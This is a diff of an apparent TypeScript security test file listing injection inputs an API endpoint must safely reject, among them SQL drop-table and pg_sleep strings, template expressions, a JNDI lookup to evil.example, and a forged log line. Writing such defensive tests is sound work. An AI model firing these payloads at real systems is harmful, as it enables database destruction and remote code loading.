@@ -26,7 +26,7 @@ export const INJECTION: readonly Attack[] = [
   ['wildcards', 'stranger', findsNobody('%%'), '200'],
   ['a drop table statement', 'stranger', findsNobody("x'; drop table player; --"), '200'],
   ['a sleep function', 'stranger', findsNobody("x' and pg_sleep(10) is not null --"), '200'],
-  ['a template expression', 'stranger', findsNobody('{{zq*zq}}${zq*zq}'), '200'],
+  ['a template expression', 'stranger', findsNobody('{{qqq*qqq}}${qqq*qqq}'), '200'],
   ['a JNDI lookup', 'stranger', findsNobody('${jndi:ldap://evil.example/a}'), '200'],
   ['a forged log line', 'stranger', findsNobody('x\n{"level":"fatal"}'), '200'],
   ['SQL as id', 'stranger', get(`/api/players/${encoded('1 or 1=1')}`), '404 request.notFound'],
